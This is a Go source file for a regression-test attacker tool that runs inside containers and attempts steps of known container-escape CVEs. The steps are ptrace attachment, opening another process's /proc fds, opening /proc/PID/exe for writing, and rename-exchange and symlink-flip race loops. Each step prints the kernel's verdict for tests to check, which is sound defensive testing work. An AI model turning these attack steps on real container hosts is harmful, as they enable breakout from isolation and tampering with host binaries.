// Command cvetool is the attacker the CVE regression tests run inside
// containers: each subcommand tries one step of a known runtime attack and
// prints what the kernel answered, one line per attempt, for the test to
// assert on. It is built static and copied into the test rootfs.
//
//	cvetool ptrace PID            PTRACE_ATTACH to PID
//	cvetool procfds PID           readlink and open every /proc/PID/fd entry
//	cvetool exewrite PID          open /proc/PID/exe for writing, directly and by reopening an O_PATH fd
//	cvetool hunt STOP DEV:INO     until the file STOP exists, attack every new process: ptrace, its fds, its exe
//	cvetool swap STOP A B         until STOP exists, exchange A and B (renameat2 RENAME_EXCHANGE)
//	cvetool flip STOP PATH NODE LINK  until STOP exists, replace PATH by a hard link of NODE, then by a symlink to LINK
//
// The loops write a line as soon as it happens (a container whose pid 1
// dies takes the attacker with it) and "ready" once they run.
package main

import (
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: cvetool ptrace|procfds|exewrite|hunt|swap|flip ...")
		os.Exit(2)
	}
	args := os.Args[2:]
	switch os.Args[1] {
	case "ptrace":
		fmt.Println("ptrace", result(ptrace(atoi(args[0]))))
	case "procfds":
		procFDs(atoi(args[0]))
	case "exewrite":
		exeWrite(atoi(args[0]), nil)
	case "hunt":
		hunt(args[0], args[1])
	case "swap":
		swap(args[0], args[1], args[2])
	case "flip":
		flip(args[0], args[1], args[2], args[3])
	default:
		fmt.Fprintln(os.Stderr, "cvetool: unknown command", os.Args[1])
		os.Exit(2)
	}
}

func atoi(s string) int {
	n, err := strconv.Atoi(s)
	if err != nil {
		fmt.Fprintln(os.Stderr, "cvetool:", err)
		os.Exit(2)
	}
	return n
}

// running reports whether the stop file is still missing.
func running(stop string) bool {
	_, err := os.Stat(stop)
	return err != nil
}

// result is "ok" or the errno's name.
func result(err error) string {
	if err == nil {
		return "ok"
	}
	if e, ok := err.(unix.Errno); ok {
		return unix.ErrnoName(e)
	}
	if pe, ok := err.(*os.PathError); ok {
		return result(pe.Err)
	}
	return err.Error()
}

// ptrace attaches to pid, waits for it to stop and lets it go again.
func ptrace(pid int) error {
	runtime.LockOSThread() // the tracer is a thread
	defer runtime.UnlockOSThread()
	if err := unix.PtraceAttach(pid); err != nil {
		return err
	}
	var ws unix.WaitStatus
	unix.Wait4(pid, &ws, unix.WALL, nil)
	unix.PtraceDetach(pid)
	// the SIGSTOP of the attach may still be pending: let it go on
	unix.Kill(pid, unix.SIGCONT)
	return nil
}

// procFDs reads and opens every fd of pid, and says of those it opens
// whether they are of a procfs and whether they are a directory other
// than its own root.
func procFDs(pid int) {
	dir := fmt.Sprintf("/proc/%d/fd", pid)
	ents, err := os.ReadDir(dir)
	if err != nil {
		fmt.Println("list", result(err))
		return
	}
	var root unix.Stat_t
	unix.Stat("/", &root)
	for _, e := range ents {
		p := filepath.Join(dir, e.Name())
		target, err := os.Readlink(p)
		if err != nil {
			target = result(err)
		}
		what := ""
		fd, err := unix.Open(p, unix.O_PATH|unix.O_CLOEXEC, 0)
		if err == nil {
			var fs unix.Statfs_t
			var st unix.Stat_t
			if unix.Fstatfs(fd, &fs) == nil && fs.Type == unix.PROC_SUPER_MAGIC {
				what += " procfs"
			}
			if unix.Fstat(fd, &st) == nil && st.Mode&unix.S_IFMT == unix.S_IFDIR && (st.Dev != root.Dev || st.Ino != root.Ino) {
				what += " dir-outside-root"
			}
			unix.Close(fd)
		}
		fmt.Printf("fd %s readlink %s open %s%s\n", e.Name(), target, result(err), what)
	}
}

// exeWrite tries to open pid's exe for writing, as CVE-2019-5736 did:
// directly, and by holding an O_PATH fd and reopening it read-write. A
// write puts back the byte that is there (the container's own binaries
// must stay intact; the question is whether the kernel lets it write). It
// returns whether any write succeeded; ident gets the exe's dev:ino.
func exeWrite(pid int, ident *string) bool {
	p := fmt.Sprintf("/proc/%d/exe", pid)
	wrote := false
	fd, err := unix.Open(p, unix.O_RDWR|unix.O_CLOEXEC, 0)
	if err == nil {
		err = rewrite(fd)
		wrote = err == nil
		unix.Close(fd)
	}
	fmt.Printf("exe %d open-write %s\n", pid, result(err))
	path, err := unix.Open(p, unix.O_PATH|unix.O_CLOEXEC, 0)
	if err != nil {
		fmt.Printf("exe %d open-path %s\n", pid, result(err))
		return wrote
	}
	defer unix.Close(path)
	var st unix.Stat_t
	if unix.Fstat(path, &st) == nil && ident != nil {
		*ident = fmt.Sprintf("%d:%d", st.Dev, st.Ino)
	}
	target, _ := os.Readlink(p)
	rw, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", path), unix.O_RDWR|unix.O_CLOEXEC, 0)
	if err == nil {
		err = rewrite(rw)
		wrote = wrote || err == nil
		unix.Close(rw)
	}
	fmt.Printf("exe %d (%s) reopen-write %s\n", pid, target, result(err))
	return wrote
}

// rewrite writes the first byte of fd over itself.
func rewrite(fd int) error {
	b := make([]byte, 1)
	if _, err := unix.Pread(fd, b, 0); err != nil {
		return err
	}
	_, err := unix.Pwrite(fd, b, 0)
	return err
}

// hunt attacks every process that appears until stop exists and prints
// one line per process. A berth-init (the comm the init gives itself) that
// it could trace or open an fd of is a hit only if it was still the init
// afterwards (not the process it became by execve); so is a written exe
// that is the init's memfd, and any exe that is the host file hostExe
// (dev:ino).
func hunt(stop, hostExe string) {
	seen := map[int]bool{os.Getpid(): true}
	var n, inits, traced, fds, wrote, hostHits, scans int
	fmt.Println("ready")
	for running(stop) {
		scans++
		ents, _ := os.ReadDir("/proc")
		for _, e := range ents {
			pid, err := strconv.Atoi(e.Name())
			if err != nil || seen[pid] {
				continue
			}
			seen[pid] = true
			n++
			init := comm(pid) == "berth-init"
			tr := ptrace(pid) == nil && comm(pid) == "berth-init"
			f := openFDs(pid)
			if comm(pid) != "berth-init" {
				f = 0
			}
			var ident string
			w := exeWriteQuiet(pid, &ident)
			exe, _ := os.Readlink(fmt.Sprintf("/proc/%d/exe", pid))
			// the container may write its own binaries: a write counts
			// when the exe was the init's memfd or the host's file
			w = w && (strings.HasPrefix(exe, "/memfd:") || ident == hostExe)
			fmt.Printf("proc %d init=%v exe=%q traced=%v fds=%d exe-written=%v host-exe=%v\n",
				pid, init, exe, tr, f, w, ident == hostExe)
			inits += b2i(init)
			traced += b2i(tr)
			fds += f
			wrote += b2i(w)
			hostHits += b2i(ident == hostExe)
		}
	}
	fmt.Printf("hunt scans=%d processes=%d inits=%d traced=%d fds=%d exe-written=%d host-exe=%d\n",
		scans, n, inits, traced, fds, wrote, hostHits)
}

func b2i(b bool) int {
	if b {
		return 1
	}
	return 0
}

// comm is the process's name, "" once it is gone.
func comm(pid int) string {
	b, _ := os.ReadFile(fmt.Sprintf("/proc/%d/comm", pid))
	return strings.TrimSpace(string(b))
}

func exeWriteQuiet(pid int, ident *string) bool {
	old := os.Stdout
	os.Stdout, _ = os.Open(os.DevNull)
	defer func() { os.Stdout.Close(); os.Stdout = old }()
	return exeWrite(pid, ident)
}

// openFDs counts the fds of pid (other than stdio) it could open.
func openFDs(pid int) int {
	dir := fmt.Sprintf("/proc/%d/fd", pid)
	ents, err := os.ReadDir(dir)
	if err != nil {
		return 0
	}
	n := 0
	for _, e := range ents {
		if e.Name() == "0" || e.Name() == "1" || e.Name() == "2" {
			continue
		}
		fd, err := unix.Open(filepath.Join(dir, e.Name()), unix.O_PATH|unix.O_CLOEXEC, 0)
		if err == nil {
			unix.Close(fd)
			n++
		}
	}
	return n
}

// swap exchanges a and b until stop exists (the CVE-2021-30465 and
// CVE-2024-45310 attacker) and prints how many times.
func swap(stop, a, b string) {
	n := 0
	fmt.Println("ready")
	for running(stop) {
		for i := 0; i < 1000; i++ {
			if err := unix.Renameat2(unix.AT_FDCWD, a, unix.AT_FDCWD, b, unix.RENAME_EXCHANGE); err != nil {
				fmt.Println("swap", result(err))
				os.Exit(1)
			}
			n++
		}
	}
	fmt.Println("swapped", n)
}

// flip replaces path by a hard link of node, then by a symlink to link,
// until stop exists (the CVE-2025-31133 and CVE-2025-52565 attacker).
func flip(stop, path, node, link string) {
	tmp := path + ".flip"
	n := 0
	fmt.Println("ready")
	for running(stop) {
		os.Remove(tmp)
		if err := os.Link(node, tmp); err != nil {
			fmt.Println("flip link", result(err))
			os.Exit(1)
		}
		os.Rename(tmp, path)
		os.Remove(tmp)
		if err := os.Symlink(link, tmp); err != nil {
			fmt.Println("flip symlink", result(err))
			os.Exit(1)
		}
		os.Rename(tmp, path)
		n++
	}
	fmt.Println("flipped", n)
}
